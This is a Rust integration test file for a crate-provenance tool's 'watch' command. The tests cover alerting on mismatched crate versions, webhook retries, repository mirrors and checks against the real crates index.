#[test]
fn watch_loop_alerts_a_version_published_while_it_runs_and_stops_on_sigterm() {
    use std::io::BufRead as _;
    let w = World::new();
    w.publish_match("alpha", "1.0.0");
    let mut child = cli()
        .current_dir(w.tmp.path())
        .args([
            "watch",
            "--crates",
            "alpha",
            "--interval",
            "1s",
            "--deny",
            "mismatch",
        ])
        .args(["--db", "w.db", "--index-url", &w.registry.index_url()])
        .arg("--allow-insecure-transport")
        .arg("--cache-dir")
        .arg(w.path("cache"))
        .env_remove("CRATE_PROVENANCE_TEST_PAUSE")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let stdout = child.stdout.take().unwrap();
    let stderr = child.stderr.take().unwrap();
    let tx2 = tx.clone();
    std::thread::spawn(move || {
        for l in std::io::BufReader::new(stdout).lines() {
            let _ = tx.send(("out", l.unwrap()));
        }
    });
    std::thread::spawn(move || {
        for l in std::io::BufReader::new(stderr).lines() {
            let _ = tx2.send(("err", l.unwrap()));
        }
    });
    let wait_for = |what: &str, pred: &dyn Fn(&str, &str) -> bool| {
        let deadline = Instant::now() + Duration::from_secs(300);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            let (stream, line) = rx
                .recv_timeout(left)
                .unwrap_or_else(|_| panic!("no {what} within 300 s"));
            if pred(stream, &line) {
                return line;
            }
        }
    };
    // The first cycle verified the starting version.
    wait_for("first cycle", &|s, l| {
        s == "err" && l.contains("verified 1,")
    });
    w.publish_mismatch("alpha", "1.1.0");
    let alert = wait_for("alert", &|s, _| s == "out");
    let alert: serde_json::Value = serde_json::from_str(&alert).unwrap();
    assert_eq!(alert["crate"]["version"], "1.1.0");
    assert_eq!(alert["verdict"], "mismatch");
    // A later cycle finds nothing new.
    wait_for("a quiet cycle", &|s, l| {
        s == "err" && l.contains("verified 0,")
    });
    // A second watch on the same database refuses to run.
    let out = w.watch("w.db", &["--crates", "alpha"]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("in use by another `watch`"),
        "{}",
        text(&out)
    );
    let ok = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(ok.success());
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130), "{status:?}");
    assert_eq!(
        rows(&w.path("w.db"), "SELECT COUNT(*) FROM alerts")[0][0],
        "1"
    );
}

/// An endpoint that is down for all of a cycle's attempts gets the alert on the next cycle;
/// stdout had it at once.
#[test]
fn webhook_down_for_a_whole_cycle_is_delivered_on_the_next() {
    let w = World::new();
    w.publish_mismatch("zeta", "1.0.0");
    let rx = Receiver::start(5);
    std::fs::write(w.path("secret"), "k").unwrap();
    let hook = rx.server.url("/hook");
    let args = [
        "--crates",
        "zeta",
        "--deny",
        "mismatch",
        "--webhook",
        &hook,
        "--webhook-secret-file",
        "secret",
    ];
    let run = || {
        w.watch("w.db", &args)
            .env("CRATE_PROVENANCE_WEBHOOK_BACKOFF_MS", "5")
            .output()
            .unwrap()
    };
    let out = run();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert_eq!(alerts_on_stdout(&out).len(), 1);
    assert!(String::from_utf8_lossy(&out.stderr).contains("webhook deliveries failed"));
    let query =
        format!("SELECT state, attempts, last_status FROM deliveries WHERE target = '{hook}'");
    assert_eq!(strs(&rows(&w.path("w.db"), &query)), ["pending 5 500"]);
    let out = run();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(out.stdout.is_empty());
    assert_eq!(strs(&rows(&w.path("w.db"), &query)), ["delivered 6 200"]);
    let got = rx.got.lock().unwrap();
    assert_eq!(got.len(), 6);
    assert!(
        got.iter().all(|g| g.1 == got[0].1),
        "the same body every time"
    );
}

/// The verdict and the report's `source` of the one verification of `db`.
fn verified_source(db: &Path) -> (String, serde_json::Value) {
    let row = rows(db, "SELECT verdict, report FROM verifications");
    assert_eq!(row.len(), 1, "{row:?}");
    let report: serde_json::Value = serde_json::from_str(&row[0][1]).unwrap();
    (row[0][0].clone(), report["source"].clone())
}

/// `watch` takes its mirrors and registry as `scan` does: a crate whose declared repository host
/// cannot be resolved (`github.invalid`) is `repository_not_found` without a mirror, and `match`
/// through `--mirror`, or through `[[mirror]]` in the policy file with the registry taken from
/// `--cargo-config`'s source replacement; the report keeps the declared URL and names the mirror
/// in `source.fetched_from`.
#[test]
fn watch_fetches_repositories_through_mirrors_like_scan() {
    let w = World::new();
    std::fs::create_dir_all(w.path("srv/acme")).unwrap();
    let declared = "https://github.invalid/acme/widget";
    let m = manifest("widget", "1.0.0", declared);
    let commit = make_repo(&w.path("srv/acme"), "widget", &m, 0, 0);
    w.registry.publish(
        "widget",
        "1.0.0",
        &make_crate("widget", "1.0.0", &m, &commit),
    );
    let mirror_to = w.daemon.url("");
    let mirrored = format!("{mirror_to}acme/widget");

    let out = w
        .watch("none.db", &["--crates", "widget"])
        .output()
        .unwrap();
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", text(&out));
    let (verdict, source) = verified_source(&w.path("none.db"));
    assert_eq!(verdict, "repository_not_found", "{source}");
    assert!(source.get("fetched_from").is_none(), "{source}");

    let flag = format!("https://github.invalid/={mirror_to}");
    let out = w
        .watch("flag.db", &["--crates", "widget", "--mirror", &flag])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let (verdict, source) = verified_source(&w.path("flag.db"));
    assert_eq!(verdict, "match", "{source}");
    assert_eq!(source["repository"], declared);
    assert_eq!(source["fetched_from"], mirrored.as_str());

    std::fs::write(
        w.path("mirrors.toml"),
        format!("[[mirror]]\nfrom = \"https://github.invalid/acme/\"\nto = \"{mirror_to}acme/\"\n"),
    )
    .unwrap();
    std::fs::create_dir_all(w.path(".cargo")).unwrap();
    std::fs::write(
        w.path(".cargo/config.toml"),
        format!(
            "[source.crates-io]\nreplace-with = \"loopback\"\n\n[source.loopback]\nregistry = \"{}\"\n",
            w.registry.index_url()
        ),
    )
    .unwrap();
    let out = cli()
        .current_dir(w.tmp.path())
        .args(["watch", "--once", "--crates", "widget", "--db", "file.db"])
        .args([
            "--policy",
            "mirrors.toml",
            "--cargo-config",
            ".cargo/config.toml",
        ])
        .args(["--allow-insecure-transport", "--cache-dir"])
        .arg(w.path("cache2"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let (verdict, source) = verified_source(&w.path("file.db"));
    assert_eq!(verdict, "match", "{source}");
    // The loopback registry's crate (not a namesake from crates.io).
    assert_eq!(source["repository"], declared);
    assert_eq!(source["fetched_from"], mirrored.as_str());
}

/// `watch --once` on 3 real crates of the real sparse index (read-only), pinned to versions that
/// tests/data/realworld holds, with their repositories served by a local mirror: a directory of
/// bare repositories laid out `OWNER/NAME.git` (the realworld archives, unpacked) standing in for
/// `https://github.com/`. Each pinned version is downloaded from the registry (checked against
/// the index `cksum`), verified and stored with the verdict real `cargo package` gives
/// (`expected_verdict` of its expected.json); the report says where the repository was fetched
/// from; the other versions are history; alerts are exactly the denied verdicts; a second run
/// verifies nothing. static_assertions declares the repository's older name
/// (`nvzqz/static-assertions-rs`): the mirror is laid out by declared URL, as a mirror of
/// `https://github.com/` would be.
#[test]
fn watch_three_real_crates_once_against_the_real_index_through_a_mirror() {
    let tmp = tempfile::tempdir().unwrap();
    let farm = tmp.path().join("github");
    let mut expected = BTreeMap::new();
    for id in ["fnv-1.0.7", "hex-0.4.0", "static_assertions-1.1.0"] {
        let entry = support::entry(id);
        let e = entry.expected;
        let declared = e.repository.strip_prefix("https://github.com/").unwrap();
        let (owner, name) = declared.split_once('/').unwrap();
        std::fs::create_dir_all(farm.join(owner)).unwrap();
        std::os::unix::fs::symlink(&entry.repo, farm.join(owner).join(format!("{name}.git")))
            .unwrap();
        expected.insert((e.name.clone(), e.version.clone()), e);
    }
    let list = expected.keys().fold(String::new(), |mut s, (n, v)| {
        let _ = writeln!(s, "{n}@{v}");
        s
    });
    std::fs::write(tmp.path().join("watched.txt"), list).unwrap();
    let deny = ["mismatch", "revision_not_found"];
    let run = || {
        cli()
            .current_dir(tmp.path())
            .args(["watch", "--once", "--list", "watched.txt"])
            .args(["--db", "w.db", "--cache-dir", "cache", "--jobs", "3"])
            .args(["--deny", &deny.join(",")])
            .arg("--mirror")
            .arg(format!("https://github.com/={}", farm.display()))
            .output()
            .unwrap()
    };
    let out = run();
    let denied: Vec<String> = expected
        .values()
        .filter(|e| deny.contains(&e.expected_verdict.as_str()))
        .map(|e| format!("{} {}", e.name, e.version))
        .collect();
    let code = i32::from(!denied.is_empty());
    assert_eq!(out.status.code(), Some(code), "{}", text(&out));
    let db = tmp.path().join("w.db");
    let verified = rows(
        &db,
        "SELECT w.name, w.version, w.verdict, v.checksum, w.report FROM verifications w
         JOIN versions v ON v.name = w.name AND v.version = w.version ORDER BY 1, 2",
    );
    assert_eq!(verified.len(), 3, "{}", text(&out));
    for (row, ((name, version), e)) in verified.iter().zip(&expected) {
        assert_eq!((&row[0], &row[1]), (name, version));
        let report: serde_json::Value = serde_json::from_str(&row[4]).unwrap();
        assert_eq!(row[2], e.expected_verdict, "{name} {version}: {report:#}");
        assert_eq!(report["verdict"], e.expected_verdict.as_str(), "{name}");
        // The `.crate` the tool downloaded is the one the index's `cksum` names.
        assert_eq!(row[3], e.crate_sha256, "{name}: index checksum");
        assert_eq!(report["crate"]["sha256"], e.crate_sha256.as_str(), "{name}");
        assert_eq!(
            report["source"]["repository"],
            e.repository.as_str(),
            "{name}"
        );
        let fetched = report["source"]["fetched_from"]
            .as_str()
            .unwrap_or_else(|| {
                panic!("{name}: no `source.fetched_from`: {report:#}");
            });
        let declared = e.repository.strip_prefix("https://github.com/").unwrap();
        assert!(
            fetched.contains(&farm.display().to_string()) && fetched.contains(declared),
            "{name}: fetched from `{fetched}`"
        );
        // Every other version of the crate is history.
        let others = rows(
            &db,
            &format!(
                "SELECT COUNT(*), SUM(status = 'history') FROM versions WHERE name = '{name}'"
            ),
        );
        let n: usize = others[0][0].parse().unwrap();
        let history: usize = others[0][1].parse().unwrap();
        assert!(n > 3, "{name}: {n} versions");
        assert_eq!(history, n - 1, "{name}");
    }
    assert_eq!(
        strs(&rows(&db, "SELECT name, version FROM alerts ORDER BY 1, 2")),
        denied,
        "{}",
        text(&out)
    );
    let out = run();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("verified 0,"),
        "{}",
        text(&out)
    );
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM verifications")[0][0], "3");
}
